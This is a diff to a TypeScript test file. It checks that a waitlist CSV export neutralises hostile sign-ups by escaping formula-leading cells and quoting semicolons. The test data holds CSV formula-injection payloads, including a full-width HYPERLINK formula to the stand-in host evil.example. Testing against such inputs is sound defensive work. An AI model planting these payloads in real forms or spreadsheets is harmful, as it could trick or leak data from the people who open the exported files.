@@ -1,9 +1,11 @@
 import { waitlistEntries, type Database } from "@bayan/db";
+import { testDatabaseKinds } from "@bayan/db/testing";
 import { createTestDeps, TEST_ADMIN_PASSWORD } from "@bayan/trpc/testing";
 import { request as httpRequest } from "node:http";
 import type { AddressInfo } from "node:net";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { buildApp } from "../app.js";
+import { setupApp } from "../../test/app.js";
 
 /**
  * The real database, except that reading waitlist rows fails from the `failAt`-th read on (counted
@@ -116,5 +118,47 @@ describe("the CSV export during a database outage", () => {
     expect(res.status).toBe(200);
     expect(res.body).toContain("person0@example.com");
     expect(res.complete).toBe(false);
+  });
+});
+
+describe.each(testDatabaseKinds)("the CSV export of hostile sign-ups on %s", (kind) => {
+  let t: Awaited<ReturnType<typeof setupApp>>;
+  let auth: { authorization: string };
+
+  beforeAll(async () => {
+    t = await setupApp(kind);
+    auth = await t.adminAuth();
+  });
+  afterAll(() => t.close());
+
+  it("neutralises full-width formulas and quotes semicolons in the email, name and source", async () => {
+    // Joined through the public form: each is a valid address, so it is stored as typed.
+    const joins = [
+      { email: '＝hyperlink("https://evil.example/"&a1;"x")@evil.example', source: "ads" },
+      { email: "＠sum(a1;a2)@evil.example", source: "－2+3;x" },
+      { email: "x;=1+2@evil.example", source: "＋1" },
+    ];
+    for (const payload of joins) {
+      const joined = await t.app.inject({ method: "POST", url: "/api/waitlist", payload });
+      expect(joined.statusCode, payload.email).toBe(201);
+    }
+    const res = await t.app.inject({
+      method: "GET",
+      url: "/api/waitlist/export.csv",
+      headers: auth,
+    });
+    expect(res.statusCode).toBe(200);
+    const lines = res.body.replace(/^\uFEFF/, "").split("\r\n");
+    const line = (email: string) => lines.find((l) => l.includes(email.slice(1, 8)))!;
+    // email, name (the email's local part), status, source: each formula behind an apostrophe,
+    // each cell with a semicolon quoted, so no spreadsheet (comma or semicolon locale) runs it.
+    expect(line(joins[0]!.email)).toContain(
+      `,"'＝hyperlink(""https://evil.example/""&a1;""x"")@evil.example",` +
+        `"'＝hyperlink(""https://evil.example/""&a1;""x"")",pending,ads,`,
+    );
+    expect(line(joins[1]!.email)).toContain(
+      `,"'＠sum(a1;a2)@evil.example","'＠sum(a1;a2)",pending,"'－2+3;x",`,
+    );
+    expect(line(joins[2]!.email)).toContain(`,"x;=1+2@evil.example","x;=1+2",pending,'＋1,`);
   });
 });
